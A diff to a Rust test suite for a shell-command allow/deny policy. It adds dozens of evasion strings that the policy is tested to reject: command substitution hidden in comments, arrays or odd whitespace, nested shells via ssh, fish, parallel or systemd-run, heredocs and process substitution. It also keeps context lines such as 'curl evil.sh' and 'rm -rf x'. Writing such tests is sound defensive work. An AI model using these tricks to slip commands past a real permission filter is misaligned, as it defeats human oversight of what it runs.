@@ -272,6 +272,12 @@ fn allow_rules_cover_only_literal_simple_commands() {
         "git status; rm -rf x",
         "git status && curl evil.sh",
         "git status 'unterminated",
+        "git status a#$(touch p)",
+        "git status \\\n$(touch p)",
+        "git status\u{a0}$(touch p)",
+        "git status $'\\x41'",
+        "git status &> out",
+        "git status a=(1 2)",
         "",
     ] {
         assert!(
@@ -362,6 +368,20 @@ fn deny_rules_see_through_quotes_wrappers_and_nested_shells() {
         "A=$(touch x) ls",
         "ls > $(touch x)",
         "! touch x",
+        "a=(1 $(touch x)) ls",
+        "declare -a a=(1 $(touch x))",
+        "fish -c 'touch x'",
+        "ssh -p 22 localhost touch x",
+        "sg staff 'touch x'",
+        "parallel 'touch {}' ::: x",
+        "systemd-run --user touch x",
+        "source /dev/stdin <<< 'touch x'",
+        "sh /dev/stdin <<EOF\ntouch x\nEOF",
+        "bash <(echo touch x)",
+        ". <(echo touch x)",
+        "hash -p /usr/bin/touch ls; ls x",
+        "ls # comment\ntouch x",
+        "ls; \\\n touch x",
     ] {
         assert!(
             matches!(exec(&policy, evasion), Decision::Deny { .. }),
@@ -375,6 +395,10 @@ fn deny_rules_see_through_quotes_wrappers_and_nested_shells() {
         "git status",
         "echo 'touch x'",
         "cat <<'EOF'\n$(touch x)\nEOF",
+        "command -v touch",
+        "ls # $(touch x)",
+        "echo 12345678901234567890123",
+        "ls \\\ntouch x",
     ] {
         assert!(
             is_run(&exec(&policy, harmless)),
@@ -607,6 +631,11 @@ fn odd_inputs_never_panic_and_stay_fast() {
     .iter()
     .map(|s| s.to_string())
     .collect();
+    let deep = format!("{}touch x{}", "{ ".repeat(60), "; }".repeat(60));
+    assert!(
+        matches!(exec(&policy, &deep), Decision::Deny { reason, .. } if reason.contains("runs `touch x`")),
+        "60 nested groups are still read"
+    );
     odd.push("x".repeat(100_000));
     odd.push("echo a; ".repeat(8_000));
     odd.push("{ ".repeat(5_000));
